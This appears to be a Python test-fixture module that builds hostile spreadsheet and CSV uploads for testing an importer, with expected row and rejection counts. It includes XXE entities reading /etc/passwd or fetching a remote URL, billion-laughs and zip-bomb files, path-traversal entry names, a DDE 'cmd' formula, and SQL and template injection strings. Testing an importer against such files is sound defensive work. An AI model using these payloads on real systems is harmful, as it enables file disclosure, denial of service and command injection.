"""Files that mean harm, or are something else: each is written by a function, and says whether it is refused or how many rows it has.

The heaviest are written for `benchmarks/hostile_files.py` alone.
"""

import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from random import Random

from tests.store.imports.tables.workbooks import MAIN, WORKBOOK, parts, sheet, workbook

HEADING: list[object] = ["REFERENCE", "APPROVED_ON", "NOTE"]
GOOD: list[list[object]] = [HEADING, ["H1", "01/02/2024", "fine"]]
CSV = "REFERENCE,APPROVED_ON,NOTE\r\n"
SHEET = "xl/worksheets/sheet1.xml"
ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)


@dataclass(frozen=True)
class Hostile:
    name: str
    write: Callable[[Path], object]
    rows: int | None = None
    """Rows that can be read; null where the file is refused."""
    rejected: int = 0
    is_heavy: bool = False


def packed(content: dict, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as package:
        for name, part in content.items():
            package.writestr(name, part)
    return out.getvalue()


def changed(**replaced: str | bytes) -> Callable[[Path], object]:
    """A good spreadsheet with parts replaced or added, by names with __ for / and the ending .xml."""
    content = {**parts(GOOD), **{name.replace("__", "/"): part for name, part in replaced.items()}}
    return lambda path: path.write_bytes(packed(content))


def having(name: str, part: str | bytes) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(packed({**parts(GOOD), name: part}))


def declared(text: str, name: str = SHEET, coding: str = "utf-8", before: int = 0) -> Callable[[Path], object]:
    """The part with a declaration put before its root, after so many blanks."""
    part = dict(parts(GOOD))[name]
    head, root = part.split("?>", 1)
    return having(name, (head.replace("UTF-8", coding) + "?>" + " " * before + text + root).encode(coding))


def text(content: str | bytes) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(content.encode() if isinstance(content, str) else content)


def lying_size(path: Path) -> None:
    """A part that unpacks to more than its entry says."""
    raw = packed({**parts(GOOD), "xl/big.xml": b" " * (60 << 20)})
    true = struct.pack("<I", 60 << 20)
    path.write_bytes(raw.replace(true, struct.pack("<I", 100)))


def flagged(path: Path) -> None:
    """Marked as encrypted."""
    raw = bytearray(packed(parts(GOOD)))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(mark)
        while at >= 0:
            raw[at + offset] |= 1
            at = raw.find(mark, at + 1)
    path.write_bytes(raw)


def doubled(path: Path) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, part in [*parts(GOOD).items(), (SHEET, sheet([HEADING]))]:
            package.writestr(name, part)
    path.write_bytes(out.getvalue())


def unknown_compression(path: Path) -> None:
    raw = bytearray(packed(parts(GOOD)))
    for mark, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = raw.find(mark)
        while at >= 0:
            raw[at + offset] = 99
            at = raw.find(mark, at + 1)
    path.write_bytes(raw)


def cells(xml: str) -> Callable[[Path], object]:
    return having(SHEET, f'<?xml version="1.0"?><worksheet xmlns="{MAIN}"><sheetData>{xml}</sheetData></worksheet>')


def a_million_rows(path: Path) -> None:
    row: list[object] = ["H1", "01/02/2024", "x"]
    workbook(path, [HEADING, *[row] * 1_000_000])


def ninety_thousand(path: Path) -> None:
    """As many as are read, and a heading."""
    rows: list[list[object]] = [HEADING, *([f"H{number}", "01/02/2024", number] for number in range(99_999))]
    workbook(path, rows)


FIRST = '<row r="1"><c r="A1" t="inlineStr"><is><t>REFERENCE</t></is></c><c r="B1" t="inlineStr"><is><t>APPROVED_ON</t></is></c></row>'
A_MILLION = f"{CSV}" + "H1,01/02/2024,x\r\n" * 1_000_000
HIDDEN = WORKBOOK.replace('name="Sheet1"', 'name="Sheet1" state="hidden"')


SPREADSHEETS = [
    Hostile("a part of 60 MB", having("xl/big.xml", b" " * (60 << 20))),
    Hostile("many parts of 1 MB", lambda path: path.write_bytes(packed({**parts(GOOD), **{f"xl/{n}.xml": b" " * (1 << 20) for n in range(55)}}))),
    Hostile("20 MB that were 20 kB", having("xl/big.xml", b"0" * (20 << 20))),
    Hostile("a size that lies", lying_size),
    Hostile("201 parts", lambda path: path.write_bytes(packed({**parts(GOOD), **{f"xl/{n}.xml": "<x/>" for n in range(200)}}))),
    Hostile("5,000 empty parts", lambda path: path.write_bytes(packed({**parts(GOOD), **{f"xl/{n}.xml": "" for n in range(5_000)}}))),
    Hostile("one name twice", doubled),
    Hostile("a name that climbs", having("../../etc/cron.d/x", "x")),
    Hostile("a name from the root", having("/etc/passwd", "x")),
    Hostile("marked as encrypted", flagged),
    Hostile("a password (an OLE file)", text(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096)),
    Hostile("an encrypted package in a zip", having("EncryptedPackage", b"\0" * 64)),
    Hostile("a macro project", having("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")),
    Hostile("a macro sheet", having("xl/macrosheets/sheet1.xml", "<x/>")),
    Hostile("an ActiveX control", having("xl/activeX/activeX1.xml", "<x/>")),
    Hostile("a type with macros", having("[Content_Types].xml", dict(parts(GOOD))["[Content_Types].xml"].replace("sheet.main+xml", "sheet.macroEnabled.main+xml"))),
    Hostile("an external entity", declared(ENTITY)),
    Hostile("an external entity from the net", declared('<!DOCTYPE x [<!ENTITY e SYSTEM "http://192.0.2.1/x">]>', "xl/workbook.xml")),
    Hostile("a parameter entity", declared('<!DOCTYPE x [<!ENTITY % e SYSTEM "http://192.0.2.1/x"> %e;]>')),
    Hostile("a billion laughs", declared(LAUGHS)),
    Hostile("a declaration in lower case", declared(ENTITY.lower())),
    Hostile("a declaration in UTF-16", declared(ENTITY, coding="utf-16-le")),
    Hostile("a declaration in UTF-16, the other way", declared(ENTITY, coding="utf-16-be")),
    Hostile("a declaration across blocks", declared(ENTITY, before=(1 << 16) - 45)),
    Hostile("a declaration in the relations", declared(ENTITY, "xl/_rels/workbook.xml.rels")),
    Hostile("a declaration in the styles", declared(ENTITY, "xl/styles.xml")),
    Hostile("a text document", text(packed({"[Content_Types].xml": "<x/>", "word/document.xml": "<x/>"}))),
    Hostile("an OpenDocument table", text(packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<x/>"}))),
    Hostile("a zip of a CSV file", text(packed({"carers.csv": CSV}))),
    Hostile("an empty zip", text(packed({}))),
    Hostile("a zip cut short", lambda path: path.write_bytes(packed(parts(GOOD))[:900])),
    Hostile("a zip with bytes overwritten", lambda path: path.write_bytes(packed(parts(GOOD)).replace(b"PK\x01\x02", b"PK\x01\x03"))),
    Hostile("a content that is not what its checksum says", lambda path: path.write_bytes(packed(parts(GOOD), zipfile.ZIP_STORED).replace(b"fine", b"evil"))),
    Hostile("an unknown compression", unknown_compression),
    Hostile("a binary workbook", text(packed({**{k: v for k, v in parts(GOOD).items() if k != "xl/workbook.xml"}, "xl/workbook.bin": b"\x83\x01"}))),
    Hostile("no sheet behind the name", lambda path: path.write_bytes(packed({k: v for k, v in parts(GOOD).items() if k != SHEET}))),
    Hostile("a workbook that is not XML", having("xl/workbook.xml", "<workbook><sheets>")),
    Hostile("a sheet that breaks off", having(SHEET, sheet(GOOD)[:-40])),
    Hostile("a sheet that is not XML", having(SHEET, b"\x00\xff" * 400)),
    Hostile("a cell in the last row and column", cells(FIRST + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
    Hostile("a cell beyond the last row", cells(FIRST + '<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>')),
    Hostile("a row in the far distance", cells(FIRST + '<row r="1000000"><c r="A1000000"><v>1</v></c></row>')),
    Hostile("300 columns", lambda path: workbook(path, [[*HEADING, *["x"] * 300]])),
    Hostile("hidden sheets alone", having("xl/workbook.xml", HIDDEN)),
    Hostile("nothing in the sheet", lambda path: workbook(path, [])),
    Hostile("a text where there is none", cells(FIRST + '<row r="2"><c r="A2" t="s"><v>7000</v></c></row>')),
    Hostile("formulas without a value", cells(FIRST + '<row r="2"><c r="A2"><f>1+1</f></c><c r="B2"><f>cmd|\'/c calc\'!A0</f></c></row>'), rows=0),
    Hostile("a formula that gave an error", cells(FIRST + '<row r="2"><c r="A2" t="e"><f>1/0</f><v>#DIV/0!</v></c><c r="B2"><v>45323</v></c></row>'), rows=0, rejected=1),
    Hostile("a number that is none", cells(FIRST + '<row r="2"><c r="A2"><v>1E308</v></c><c r="B2" s="1"><v>1E308</v></c></row>'), rows=0, rejected=1),
    Hostile("a link to another workbook", having("xl/externalLinks/externalLink1.xml", '<externalLink><externalBook r:id="x"/></externalLink>'), rows=1),
    Hostile("a spreadsheet inside", having("xl/embeddings/inner.xlsx", packed(parts(GOOD))), rows=1),
    Hostile("a very long text", lambda path: workbook(path, [HEADING, ["H1", "01/02/2024", "".join(Random(1).choices("abcdefghijklmnop qrstuvwxyz", k=30_000))]]), rows=0, rejected=1),
    Hostile("formulas as texts", lambda path: workbook(path, [HEADING, ["=1+1", "01/02/2024", "=HYPERLINK(1)"]]), rows=0, rejected=1),
    Hostile("a million rows", a_million_rows, is_heavy=True),
    Hostile("99,999 rows", ninety_thousand, rows=99_999, is_heavy=True),
]  # fmt: skip
TEXTS = [
    Hostile("nothing at all", text("")),
    Hostile("a byte order mark alone", text("\ufeff")),
    Hostile("blank lines", text("\r\n" * 5_000)),
    Hostile("zero bytes", text(CSV.encode() + b"\0" * 500)),
    Hostile("a PDF", text(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n\x00\x01")),
    Hostile("a picture", text(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\0" * 50)),
    Hostile("a program", text(b"\x7fELF\x02\x01\x01" + b"\0" * 300)),
    Hostile("compressed with gzip", text(b"\x1f\x8b\x08\0\0\0\0\0\0\x03\xcbH\xcd")),
    Hostile("random bytes", text(bytes((n * 7919) % 251 for n in range(4_000)))),
    Hostile("a web page", text("<html><script>alert(1)</script></html>")),
    Hostile("JSON", text('{"REFERENCE": "H1", "APPROVED_ON": "01/02/2024"}')),
    Hostile("another kind of table", text("CHILD,SEX,DOB\r\nC1,1,01/01/2010\r\n")),
    Hostile("one line of 2 MB", text("x" * (2 << 20))),
    Hostile("a quotation that never ends", text(CSV + '"' + "H1,01/02/2024,x\r\n" * 20_000)),
    Hostile("10,000 columns", text(",".join(f"C{n}" for n in range(10_000)) + "\r\n")),
    Hostile("100,001 rows", text(CSV + "H1,01/02/2024,x\r\n" * 100_001)),
    Hostile("formulas", text(CSV + "=1+1,01/02/2024,x\r\nH1,01/02/2024,=cmd|'/c calc'!A0\r\nH2,01/02/2024,@SUM(A1)\r\n"), rows=2, rejected=1),
    Hostile("signs that steer a terminal", text(CSV + "H1,01/02/2024,x\r\n" * 700 + "H2,01/02/2024,\x1b[2Jgone\r\n"), rows=700, rejected=1),
    Hostile("markup and templates", text(CSV + "H1,01/02/2024,<!channel> {{ 7*7 }} '; drop table person; --\r\n"), rows=1),
    Hostile("a million rows of text", text(A_MILLION), is_heavy=True),
]  # fmt: skip
HOSTILE = [one for one in (*SPREADSHEETS, *TEXTS) if not one.is_heavy]
HEAVY = [one for one in (*SPREADSHEETS, *TEXTS) if one.is_heavy]
